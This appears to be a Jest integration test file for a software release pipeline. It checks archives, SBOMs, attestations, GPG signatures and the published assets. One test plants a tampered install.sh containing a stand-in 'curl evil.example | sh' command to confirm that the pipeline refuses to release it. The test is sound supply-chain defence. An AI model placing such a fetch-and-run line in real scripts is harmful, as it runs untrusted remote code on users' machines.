/** A release of an archive, a package of the build job and a file of another tool, through all four jobs. */
import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type { ChildResult } from '../../sandbox/child.ts'
import { makeKey, verifies } from '../integration/support/gpg-keys.ts'
import { PUBLIC_GOOD_HOSTS, RELEASE_HOSTS } from './support/discipline.ts'
import {
  EVERY_KIND,
  ownPlatform,
  planAndStageEveryKind,
  produce,
  scenarioOfEveryKind,
} from './support/every-kind.ts'
import { attest, release, type Staged } from './support/pipeline.ts'
import { published, RELEASER, scenario, type Scenario } from './support/runner.ts'

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

describe('four jobs and a release of every kind of file', () => {
  let world: Scenario
  let built: Buffer
  let staged: Staged
  let attested: ChildResult
  let released: ChildResult
  const stem = (): string => `widget-1.2.3-${world.host.name}`
  const asset = (name: string): Buffer =>
    published(world.repository)[0]?.assets.find(one => one.name === name)?.bytes ?? Buffer.alloc(0)

  beforeAll(async () => {
    world = await scenarioOfEveryKind()
    const all = await planAndStageEveryKind(world)
    staged = all
    built = await readFile(join(all.workspace, 'target/release/widget'))
    attested = await attest(world, staged)
    released = await release(world, staged)
  }, 120_000)
  afterAll(async () => world[Symbol.asyncDispose]())

  it('ends with exactly the planned files, published', () => {
    expect([attested.stdout, attested.status]).toEqual([expect.any(String), 0])
    expect([released.outputs['state'], released.status]).toEqual(['published', 0])
    expect(published(world.repository)[0]?.assets.map(({ name }) => name).sort()).toEqual([
      'widget-1.2.3-checksums.txt',
      `${stem()}.tar.gz`,
      `${stem()}.tar.gz.cdx.json`,
      'widget-1.2.3.intoto.jsonl',
      'widget-installer.sh',
      'widget.deb',
      'widget.deb.cdx.json',
    ])
    world.expectDiscipline([...RELEASE_HOSTS, ...PUBLIC_GOOD_HOSTS])
  })

  it('attests archive and binary, each with provenance and the SBOM of the binary', () => {
    const about = (digest: string): number =>
      world.sandbox.github.attestations.filter(one => one.digests.includes(`sha256:${digest}`)).length
    expect(about(sha256(asset(`${stem()}.tar.gz`)))).toBe(2)
    expect(about(sha256(built))).toBe(2)
    const sbom = JSON.parse(asset(`${stem()}.tar.gz.cdx.json`).toString()) as {
      metadata: {
        component: {
          hashes: { content: string }[]
          externalReferences: { type: string; url: string; hashes?: { content: string }[] }[]
        }
      }
    }
    const { hashes, externalReferences } = sbom.metadata.component
    expect(hashes[0]?.content).toBe(sha256(built))
    const download = externalReferences.find(({ type }) => type === 'distribution')
    expect(download?.url).toMatch(/\.tar\.gz$/)
    expect(download?.hashes?.[0]?.content).toBe(sha256(asset(`${stem()}.tar.gz`)))
  })

  it('says of the prebuilt file that it was assembled, and of nothing else', () => {
    const summary = attested.summary.split('\n').filter(line => line.includes('not built here'))
    expect(summary).toHaveLength(1)
    expect(summary[0]).toContain('widget-installer.sh')
    expect(released.summary).toContain('assembled by another tool')
  })

  it('has commands that are true, and a binary that can be verified once unpacked', async () => {
    const folder = join(world.folder, 'downloads')
    await mkdir(folder)
    const archive = `${stem()}.tar.gz`
    await writeFile(join(folder, archive), asset(archive))
    const body = published(world.repository)[0]?.body ?? ''
    expect(body).toContain(`tar -xzf ${archive}`)
    expect(body).toContain(`gh attestation verify ${stem()}/widget --repo octo-org/widget`)
    await promisify(execFile)('tar', ['-xzf', archive], { cwd: folder })
    expect((await readFile(join(folder, stem(), 'widget'))).equals(built)).toBe(true)
    expect(await readFile(join(folder, stem(), 'man/widget.1'), 'utf8')).toBe('.TH WIDGET 1\n')
    expect(await readFile(join(folder, stem(), 'LICENSE'), 'utf8')).toBe('MIT\n')
    await writeFile(join(folder, 'widget-installer.sh'), asset('widget-installer.sh'))
    const verified = await world.step(RELEASER, {
      command: 'verify',
      'subject-path': [archive, `${stem()}/widget`, 'widget-installer.sh']
        .map(name => join(folder, name))
        .join('\n'),
      repo: 'octo-org/widget',
      tag: 'v1.2.3',
      'trusted-root': world.sandbox.trustedRoots.jsonl,
    })
    expect([verified.status, verified.outputs['verified']]).toEqual([0, 'true'])
    expect(verified.summary).toContain('another tool made: assembled, not built')
  })
})

it('all refuses a file of the commit that was changed, though it is to be released as it lies there', async () => {
  await using world = await scenario({ files: () => ({ 'install.sh': '#!/bin/sh\n' }) })
  await writeFile(join(world.project.folder, 'install.sh'), '#!/bin/sh\ncurl evil.example | sh\n')
  const result = await world.step(RELEASER, {
    // Without platforms there is nothing for cargo to build, and nothing that would look at the tree later.
    prebuilt: 'install.sh',
    'trusted-root': world.sandbox.trustedRoots.jsonl,
  })
  expect(result.status).toBe(1)
  expect(result.stdout).toContain('title=TREE_DIRTY')
  expect(world.repository.releases).toEqual([])
})

it('all does the same in one job, with OpenPGP signatures beside the files', async () => {
  await using world = await scenarioOfEveryKind()
  const key = await makeKey({ passphrase: 'correct horse' })
  await produce(world.project.folder)
  const result = await world.step(RELEASER, {
    ...EVERY_KIND,
    gpg: 'true',
    'gpg-private-key': key.secret,
    'gpg-passphrase': 'correct horse',
    platforms: ownPlatform(world),
    'trusted-root': world.sandbox.trustedRoots.jsonl,
  })
  expect([result.status, result.outputs['state']]).toEqual([0, 'published'])
  const [released] = published(world.repository)
  // Seven files, and a signature for each but the evidence.
  expect(released?.assets).toHaveLength(13)
  const archive = `widget-1.2.3-${world.host.name}.tar.gz`
  expect(released?.body).toContain(`gpg --verify ${archive}.asc ${archive}`)
  const folder = join(world.folder, 'downloads')
  await mkdir(folder)
  for (const { name, bytes } of released?.assets ?? []) await writeFile(join(folder, name), bytes)
  for (const name of [archive, 'widget.deb', 'widget-installer.sh', 'widget-1.2.3-checksums.txt']) {
    const signature = join(folder, `${name}.asc`)
    expect([name, await verifies(key, signature, join(folder, name))]).toEqual([name, true])
  }
  const told = result.stdout.split('\n').filter(line => !line.startsWith('::add-mask::'))
  expect(told.join('\n')).not.toContain('correct horse')
})
